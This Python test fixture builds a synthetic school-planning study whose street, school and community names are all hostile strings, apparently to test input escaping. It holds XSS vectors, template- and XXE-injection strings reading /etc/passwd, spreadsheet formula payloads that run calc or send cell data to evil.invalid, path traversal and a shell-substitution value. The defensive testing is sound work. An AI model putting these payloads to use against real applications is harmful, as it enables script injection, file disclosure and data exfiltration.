"""Names that try to run, break out, hide, climb or crash, and a whole study full of them."""

from __future__ import annotations

import csv
import json
from typing import TYPE_CHECKING, Any

import numpy as np
from pyproj import Transformer

if TYPE_CHECKING:
    from pathlib import Path

RUN = "window.__pwned=1"
HTML = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.__pwned=1</script>'>{RUN}",
    "<object data=javascript:window.__pwned=1>",
    "<a href='javascript:window.__pwned=1'>x</a>",
    "<base href=https://evil.invalid/>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid/><button>x</button></form>",
    "<img src=https://evil.invalid/pixel.png>",
    f"<template><script>{RUN}</script></template>",
    f"<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
]
ATTRIBUTES = [
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    "javascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
]
SCRIPTS = [
    "${window.__pwned=1}",
    "`);window.__pwned=1;(`",
    "`+(window.__pwned=2)+`",
    "';window.__pwned=3;//",
    '";window.__pwned=1;//',
    "\\';window.__pwned=1;//",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "*/window.__pwned=1/*",
    "__proto__",
    "constructor",
    "a\u2028window.__pwned=1\u2029//",
    "toString",
]
TEMPLATES = [
    "{{7*7}}",
    "{{cycler.__init__.__globals__.os.mkdir('__pwned')}}",
    "{% include '/etc/passwd' %}",
    "{# x",
    "{%raw%}{{x}}{%endraw%",
    "{0.__class__}",
    "%s%n%d",
    "<%= 7*7 %>",
    "#{7*7}",
]
MARKUP = [
    "<!--<script>",
    "-->",
    "]]>",
    "<![CDATA[x]]>",
    "</style><style>*{display:none}</style>",
    "</textarea></title></svg>",
    "expression(alert(1));}*{display:none",
    "&lt;b&gt;&amp;&#60;&#x3c;",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "<?xml version='1.0'?><?php echo 1 ?>",
    '#eval("panic()")',
    '#read("/etc/passwd")',
    "$x^2$ *b* _i_ @x `c` ~ //",
    '#import "@preview/x:1.0.0"',
    "[x](javascript:window.__pwned=1) ![i](https://evil.invalid/x.png) **b**",
    "# h\u3000|a|b|",
    "\\input{/etc/passwd} \\u{1F600} \\N{BULLET}",
]
FORMULAS = [
    '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("https://evil.invalid","//a")',
    "＝1+1",
    "'=1+1",
    "http://evil.invalid/x",
    "mailto:a@evil.invalid",
]
PATHS = [
    "../../x",
    "..\\..\\x",
    "/etc/passwd",
    "CON",
    "a:b",
    "x.",
    "con.html",
    "~root",
    "|ls;$(id)",
]
SHOWN = ["学校 🏫", "مدرسة الأطفال", "Z̸̡̛̖a̷l̵g̶o̷" * 3, "长" * 400]
HIDDEN = ["甲\u202etxt.exe\u202c乙", "\u200b零\u200d宽\ufeff", "a\u2066b\u2069", "👩\u200d👧"]
"""Marks of direction and characters that nobody sees: the reader takes them out and says so."""
NAMES = [*HTML, *ATTRIBUTES, *SCRIPTS, *TEMPLATES, *MARKUP, *FORMULAS, *PATHS, *SHOWN, *HIDDEN]
CRS, ORIGIN, SPACING_M = "EPSG:4548", (500_000.0, 4_310_000.0), 150.0


def write_study(folder: Path) -> Path:
    """Write a study in which every text that an office may give is hostile; return its folder."""
    across = int(np.ceil(np.sqrt(len(NAMES)))) + 1
    _write_streets(folder / "streets.geojson", across)
    _write_schools(folder / "schools.csv", across)
    _write_communities(folder / "communities.geojson", across)
    said = json.dumps("".join(NAMES[:40]), ensure_ascii=False)
    text = f"""[study]
name = {said}
name_en = {said}
crs = "{CRS}"
source = {said}
attribution = {said}
date = "2026-06-01"
[streets]
path = "streets.geojson"
[[facilities]]
path = "schools.csv"
crs = "EPSG:4326"
[communities]
path = "communities.geojson"
[sites]
on = false
[report]
formats = ["geoparquet", "kml", "dxf", "shapefile"]
"""
    (folder / "study.toml").write_text(text, encoding="utf-8", newline="\n")
    return folder


def _degrees(points: Any) -> list[list[float]]:
    """Return longitude and latitude of places of the grid."""
    xy = np.asarray(points, dtype=float) * SPACING_M + ORIGIN
    turn = Transformer.from_crs(CRS, "EPSG:4326", always_xy=True)
    return np.round(np.column_stack(turn.transform(*xy.T)), 7).tolist()


def _write_geojson(path: Path, features: list[tuple[dict[str, Any], str, Any]]) -> None:
    found = [
        {"type": "Feature", "properties": said, "geometry": {"type": kind, "coordinates": at}}
        for said, kind, at in features
    ]
    text = json.dumps({"type": "FeatureCollection", "features": found}, ensure_ascii=False)
    path.write_text(text, encoding="utf-8")


def _write_streets(path: Path, across: int) -> None:
    steps = range(across + 1)
    lines = [
        [(n, step) if flip else (step, n) for step in steps]
        for n in steps
        for flip in (False, True)
    ]
    highways = ("primary", "residential", "tertiary")
    _write_geojson(path, [
        ({"name": NAMES[n % len(NAMES)], "highway": highways[n % 3]}, "LineString", _degrees(line))
        for n, line in enumerate(lines)
    ])  # fmt: skip


def _write_schools(path: Path, across: int) -> None:
    at = _degrees([(n % across + 0.1, n // across + 0.1) for n in range(len(NAMES))])
    with path.open("w", encoding="utf-8", newline="") as file:
        table = csv.writer(file)
        table.writerow(["编号", "名称", "类型", "经度", "纬度", "学位数"])
        for n, (name, (lon, lat)) in enumerate(zip(NAMES, at, strict=True)):
            code = f"{n:03d}{name}" if len(name) < 200 else f"{n:03d}"
            table.writerow([code, name, ("小学", "幼儿园")[n % 2], lon, lat, 300])


def _write_communities(path: Path, across: int) -> None:
    features = []
    for n, name in enumerate(NAMES):
        x, y = n % across, n // across
        ring = [(x, y), (x + 1, y), (x + 1, y + 1), (x, y + 1), (x, y)]
        said = {
            "区划代码": f"120118{n:06d}",
            "名称": name,
            "乡镇": NAMES[-1 - n],
            "3-5岁": 20,
            "6-11岁": 40,
        }
        features.append((said, "Polygon", [_degrees(ring)]))
    _write_geojson(path, features)
